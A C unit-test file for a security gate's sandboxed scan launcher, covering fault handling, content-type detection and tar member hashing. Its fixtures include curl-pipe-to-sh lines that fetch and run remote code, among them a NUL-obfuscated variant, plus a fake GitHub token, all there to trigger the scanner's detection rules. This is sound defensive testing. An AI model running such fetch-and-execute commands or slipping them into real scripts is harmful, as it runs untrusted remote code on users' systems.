/*
 * check_launch.c - the gate service's scan launcher: every artifact is
 * scanned by a fresh sandboxed child; a child that is killed, hangs or lies
 * makes that artifact unscannable with the reason, and the next artifact is
 * scanned normally. Real launcher, real children, real sandbox.
 */
#include <signal.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/wait.h>

#include "test_util.h"

#include "rule.h"
#include "scan_child.h"
#include "util.h"
#include "vocab.h"

#define TOKEN "ghp_R2d5Zk9hV1pLbE1xT3BuUWRzYUJjRGVmR2hJ"
#define TAR_TEXT "#!/bin/sh\necho setting up\ncurl -s https://198.51.100.23/x | sh\n"
/* The same, NULs inside its words: sh drops them (sizeof: NULs and all). */
static const char tar_nul[] = "#!/bin/sh\necho setting up\ncu\0rl -s "
    "https://198.51.100.23/x | s\0h\n";

static struct rule_set *rs;
static struct scan_engine *engine;

static void
setup(void)
{
	struct dynbuf diags;
	size_t nerr = 0;

	dynbuf_init(&diags, 1 << 20);
	ck_assert_msg(rule_set_load(&rs, "tests/data/rules", 0, &diags,
	    &nerr) == 0, "%s", dynbuf_str(&diags));
	ck_assert_int_eq(scan_engine_new(&engine, rs, NULL), 0);
	dynbuf_free(&diags);
	signal(SIGPIPE, SIG_IGN);
}

static void
teardown(void)
{
	scan_engine_free(engine);
	rule_set_free(rs);
	unsetenv("AIRLOCK_TEST_CHILD_FAULT");
}

static int
memfd_with(const char *text)
{
	int fd = memfd_create("artifact", 0);

	ck_assert_int_ge(fd, 0);
	ck_assert_int_eq(write(fd, text, strlen(text)), (ssize_t)strlen(text));
	return fd;
}

/* Scans text as one artifact named name; findings go to out. */
static void
scan_text(struct scan_launcher *l, const char *name, const char *text,
    enum al_kind kind, struct finding_list *out)
{
	uint64_t bytes = 0;
	int fd = memfd_with(text);
	struct scan_req r = {fd, name, name, out, &bytes, NULL, kind, NULL,
	    NULL};

	ck_assert_int_eq(scan_launcher_scan(l, &r), 0);
	close(fd);
}

static size_t
count_rule(const struct finding_list *l, const char *rule)
{
	size_t i, n = 0;

	for (i = 0; i < l->n; i++)
		n += strcmp(l->v[i].rule->id, rule) == 0;
	return n;
}

static const char *
excerpt_of(const struct finding_list *l, const char *rule)
{
	size_t i;

	for (i = 0; i < l->n; i++)
		if (strcmp(l->v[i].rule->id, rule) == 0)
			return l->v[i].excerpt;
	return "";
}

START_TEST(t_each_artifact_in_a_fresh_child)
{
	struct scan_launcher *l;
	struct finding_list a = {0}, b = {0}, c = {0};

	ck_assert_int_eq(scan_launcher_start(&l, engine, 30), 0);
	scan_text(l, "a.py", "token = \"" TOKEN "\"\n", AL_KIND_AUTO, &a);
	scan_text(l, "b.txt", "nothing here\n", AL_KIND_AUTO, &b);
	scan_text(l, "c.patch", "diff --git a/x.sh b/x.sh\nnew file mode 100644\n"
	    "--- /dev/null\n+++ b/x.sh\n@@ -0,0 +1,2 @@\n+echo hi\n"
	    "+curl -fsSL http://x.example/i | sh\n", AL_KIND_AUTO, &c);
	ck_assert_uint_eq(count_rule(&a, "test-github-pat"), 1);
	ck_assert_uint_eq(b.n, 0);
	ck_assert_uint_eq(count_rule(&c, "test-curl-pipe-shell"), 1);
	ck_assert_str_eq(c.v[0].path, "c.patch!/x.sh");
	ck_assert_uint_eq(c.v[0].line, 2);
	scan_launcher_stop(l);
	finding_list_free(&a);
	finding_list_free(&b);
	finding_list_free(&c);
}
END_TEST

START_TEST(t_items_reported_with_hashes)
{
	static const char text[] = "token = \"" TOKEN "\"\n";
	struct scan_launcher *l;
	struct finding_list fl = {0};
	struct scan_item_list items = {0};
	uint64_t bytes = 0;
	char want[AL_SHA256_HEX];
	int fd = memfd_with(text);
	struct scan_req r = {fd, "a.py", "a.py", &fl, &bytes, NULL,
	    AL_KIND_AUTO, &items, NULL};

	al_sha256_hex(want, text, strlen(text));
	ck_assert_int_eq(scan_launcher_start(&l, engine, 30), 0);
	ck_assert_int_eq(scan_launcher_scan(l, &r), 0);
	ck_assert_uint_eq(items.n, 1);
	ck_assert_str_eq(items.v[0].path, "a.py");
	ck_assert_uint_eq(items.v[0].size, strlen(text));
	ck_assert_str_eq(items.v[0].sha256, want);
	ck_assert_str_eq(items.v[0].type, "text/plain");
	ck_assert_uint_eq(count_rule(&fl, "test-github-pat"), 1);
	close(fd);
	scan_launcher_stop(l);
	scan_item_list_free(&items);
	finding_list_free(&fl);
}
END_TEST

/* Scans text asked as `asked`; returns the kind the child says it read,
 * with the findings in out. */
static enum al_kind
kind_read_of(struct scan_launcher *l, const char *name, const char *text,
    enum al_kind asked, struct finding_list *out)
{
	uint64_t bytes = 0;
	enum al_kind read = AL_KIND_AUTO;
	int fd = memfd_with(text);
	struct scan_req r = {fd, name, name, out, &bytes, NULL, asked, NULL,
	    &read};

	ck_assert_int_eq(scan_launcher_scan(l, &r), 0);
	close(fd);
	return read;
}

/* The kind is the content's: the child reports it, a label that the
 * content contradicts is a finding, and a name plays no part. */
START_TEST(t_kind_read_is_the_contents)
{
	static const char diff[] = "notes first\n\ndiff --git a/x.sh b/x.sh\n"
	    "--- a/x.sh\n+++ b/x.sh\n@@ -0,0 +1 @@\n+echo hi\n";
	static const char mail[] = "From 1234 Mon Sep 17 00:00:00 2001\n"
	    "From: A <a@example.com>\nSubject: [PATCH] x\n\n---\n"
	    "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+y\n";
	struct scan_launcher *l;
	struct finding_list a = {0}, b = {0}, c = {0}, d = {0};

	ck_assert_int_eq(scan_launcher_start(&l, engine, 30), 0);
	/* A diff after prose, named .txt, is a patch to git apply. */
	ck_assert_int_eq(kind_read_of(l, "notes.txt", diff, AL_KIND_AUTO, &a),
	    AL_KIND_PATCH);
	ck_assert_uint_eq(count_rule(&a, "airlock.kind-mismatch"), 0);
	/* Asked to be a plain file: still read as the patch it is. */
	ck_assert_int_eq(kind_read_of(l, "notes.txt", diff, AL_KIND_FILE, &b),
	    AL_KIND_PATCH);
	ck_assert_uint_eq(count_rule(&b, "airlock.kind-mismatch"), 1);
	ck_assert_ptr_nonnull(strstr(excerpt_of(&b, "airlock.kind-mismatch"),
	    "submitted as a file, but the content is a patch"));
	/* A mailbox asked to be a patch is read as the mailbox. */
	ck_assert_int_eq(kind_read_of(l, "x.patch", mail, AL_KIND_PATCH, &c),
	    AL_KIND_MBOX);
	ck_assert_uint_eq(count_rule(&c, "airlock.kind-mismatch"), 1);
	/* A "bundle" that is prose is read as the file it is, unscannable. */
	ck_assert_int_eq(kind_read_of(l, "x.bundle", "just words\n",
	    AL_KIND_BUNDLE, &d), AL_KIND_FILE);
	ck_assert_uint_eq(count_rule(&d, "airlock.unscannable"), 1);
	ck_assert_ptr_nonnull(strstr(excerpt_of(&d, "airlock.unscannable"),
	    "not a git bundle"));
	scan_launcher_stop(l);
	finding_list_free(&a);
	finding_list_free(&b);
	finding_list_free(&c);
	finding_list_free(&d);
}
END_TEST

/* With a fault, the artifact is unscannable with `want` in the reason, and
 * what the child reported is not kept; the next artifact is scanned. */
static void
fault_case(const char *fault, double timeout, const char *want)
{
	struct scan_launcher *l;
	struct finding_list bad = {0}, good = {0};

	setenv("AIRLOCK_TEST_CHILD_FAULT", fault, 1);
	ck_assert_int_eq(scan_launcher_start(&l, engine, timeout), 0);
	scan_text(l, "bad.py", "token = \"" TOKEN "\"\n", AL_KIND_AUTO, &bad);
	scan_text(l, "good.py", "token = \"" TOKEN "\"\n", AL_KIND_AUTO, &good);
	ck_assert_uint_eq(bad.n, 1);
	ck_assert_str_eq(bad.v[0].rule->id, "airlock.unscannable");
	ck_assert_msg(strstr(excerpt_of(&bad, "airlock.unscannable"), want) !=
	    NULL, "reason: %s", excerpt_of(&bad, "airlock.unscannable"));
	ck_assert_uint_eq(count_rule(&good, "test-github-pat"), 1);
	ck_assert_uint_eq(count_rule(&good, "airlock.unscannable"), 0);
	scan_launcher_stop(l);
	finding_list_free(&bad);
	finding_list_free(&good);
}

START_TEST(t_forbidden_syscall)
{
	fault_case("syscall:bad", 30, "signal 31");
}
END_TEST

START_TEST(t_hang_times_out)
{
	fault_case("hang:bad", 1, "did not finish within 1 seconds");
}
END_TEST

START_TEST(t_malformed_frame)
{
	fault_case("garbage:bad", 30, "unexpected");
}
END_TEST

START_TEST(t_crash)
{
	fault_case("crash:bad", 30, "killed by signal");
}
END_TEST

/* Appends one ustar member (a regular file) to b. */
static void
tar_add(struct dynbuf *b, const char *name, const void *data, size_t n)
{
	unsigned char h[512];
	unsigned sum = 0;
	size_t i;
	static const unsigned char zero[512];

	memset(h, 0, sizeof(h));
	memcpy(h, name, strlen(name));
	memcpy(h + 100, "0000644", 8);
	memcpy(h + 108, "0000000", 8);
	memcpy(h + 116, "0000000", 8);
	snprintf((char *)h + 124, 12, "%011o", (unsigned)n);
	memcpy(h + 136, "00000000000", 12);
	memset(h + 148, ' ', 8);
	h[156] = '0';
	memcpy(h + 257, "ustar", 6);
	memcpy(h + 263, "00", 2);
	for (i = 0; i < sizeof(h); i++)
		sum += h[i];
	snprintf((char *)h + 148, 8, "%06o", sum);
	ck_assert_int_eq(dynbuf_add(b, h, sizeof(h)), 0);
	ck_assert_int_eq(dynbuf_add(b, data, n), 0);
	if (n % 512)
		ck_assert_int_eq(dynbuf_add(b, zero, 512 - n % 512), 0);
}

/* A tar of a text member and a binary one, in a memfd. */
static int
tar_fd(void)
{
	static const unsigned char bin[] = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0,
	    0, 0, 0, 0, 0, 0, 0, 0, 0};
	static const unsigned char zero[1024];
	struct dynbuf b;
	int fd = memfd_create("artifact", 0);

	ck_assert_int_ge(fd, 0);
	dynbuf_init(&b, 1 << 20);
	tar_add(&b, "run.sh", TAR_TEXT, strlen(TAR_TEXT));
	tar_add(&b, "tool.bin", bin, sizeof(bin));
	tar_add(&b, "nul.sh", tar_nul, sizeof(tar_nul) - 1);
	ck_assert_int_eq(dynbuf_add(&b, zero, sizeof(zero)), 0);
	ck_assert_int_eq(write(fd, b.data, b.len), (ssize_t)b.len);
	dynbuf_free(&b);
	return fd;
}

/* Scans the tar as "x.tar"; the items in items, the findings in fl. */
static void
scan_tar(struct scan_launcher *l, struct scan_item_list *items,
    struct finding_list *fl)
{
	uint64_t bytes = 0;
	enum al_kind read = AL_KIND_AUTO;
	int fd = tar_fd();
	struct scan_req r = {fd, "x.tar", "x.tar", fl, &bytes, NULL,
	    AL_KIND_AUTO, items, &read};

	ck_assert_int_eq(scan_launcher_scan(l, &r), 0);
	close(fd);
}

static const struct scan_item *
item_of(const struct scan_item_list *l, const char *path)
{
	size_t i;

	for (i = 0; i < l->n; i++)
		if (strcmp(l->v[i].path, path) == 0)
			return &l->v[i];
	ck_abort_msg("no item %s", path);
	return NULL;
}

/* A text member's bytes come back from the child, checked against its
 * sha256; a binary member's never do. */
START_TEST(t_member_bytes_kept_for_text)
{
	struct scan_launcher *l;
	struct scan_item_list items = {0};
	struct finding_list fl = {0};
	const struct scan_item *it;

	ck_assert_int_eq(scan_launcher_start(&l, engine, 30), 0);
	scan_tar(l, &items, &fl);
	it = item_of(&items, "x.tar!/run.sh");
	ck_assert_ptr_nonnull(it->content);
	ck_assert_uint_eq(it->content_len, strlen(TAR_TEXT));
	ck_assert_mem_eq(it->content, TAR_TEXT, strlen(TAR_TEXT));
	it = item_of(&items, "x.tar!/tool.bin");
	ck_assert_ptr_null(it->content);
	ck_assert_str_ne(it->type, "text/plain");
	/* Text read with its NULs dropped (found as sh reads it): the
	 * reviewer is given its bytes as they are, NULs and all. */
	ck_assert_uint_eq(count_rule(&fl, "test-curl-pipe-shell"), 2);
	it = item_of(&items, "x.tar!/nul.sh");
	ck_assert_ptr_nonnull(it->content);
	ck_assert_uint_eq(it->content_len, sizeof(tar_nul) - 1);
	ck_assert_mem_eq(it->content, tar_nul, sizeof(tar_nul) - 1);
	scan_launcher_stop(l);
	scan_item_list_free(&items);
	finding_list_free(&fl);
}
END_TEST

/* A child that sends bytes other than those it hashed: the parent
 * refuses them, keeps no member's bytes, and the artifact is unscannable
 * with the reason; the next artifact is scanned and kept normally. */
START_TEST(t_member_bytes_must_match_sha256)
{
	struct scan_launcher *l;
	struct scan_item_list bad = {0}, good = {0};
	struct finding_list fbad = {0}, fgood = {0};
	size_t i;

	setenv("AIRLOCK_TEST_CHILD_FAULT", "membytes:x.tar", 1);
	ck_assert_int_eq(scan_launcher_start(&l, engine, 30), 0);
	scan_tar(l, &bad, &fbad);
	ck_assert_uint_eq(count_rule(&fbad, "airlock.unscannable"), 1);
	ck_assert_uint_eq(fbad.n, 1); /* what the liar found is dropped too */
	ck_assert_msg(strstr(excerpt_of(&fbad, "airlock.unscannable"),
	    "do not match their sha256") != NULL, "reason: %s",
	    excerpt_of(&fbad, "airlock.unscannable"));
	for (i = 0; i < bad.n; i++)
		ck_assert_ptr_null(bad.v[i].content);
	scan_launcher_stop(l);
	unsetenv("AIRLOCK_TEST_CHILD_FAULT");
	ck_assert_int_eq(scan_launcher_start(&l, engine, 30), 0);
	scan_tar(l, &good, &fgood);
	ck_assert_ptr_nonnull(item_of(&good, "x.tar!/run.sh")->content);
	ck_assert_uint_eq(count_rule(&fgood, "airlock.unscannable"), 0);
	scan_launcher_stop(l);
	scan_item_list_free(&bad);
	scan_item_list_free(&good);
	finding_list_free(&fbad);
	finding_list_free(&fgood);
}
END_TEST

static Suite *
launch_suite(void)
{
	Suite *s = suite_create("launch");
	TCase *tc = tcase_create("launcher");

	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, t_each_artifact_in_a_fresh_child);
	tcase_add_test(tc, t_items_reported_with_hashes);
	tcase_add_test(tc, t_kind_read_is_the_contents);
	tcase_add_test(tc, t_forbidden_syscall);
	tcase_add_test(tc, t_hang_times_out);
	tcase_add_test(tc, t_malformed_frame);
	tcase_add_test(tc, t_crash);
	tcase_add_test(tc, t_member_bytes_kept_for_text);
	tcase_add_test(tc, t_member_bytes_must_match_sha256);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(launch_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
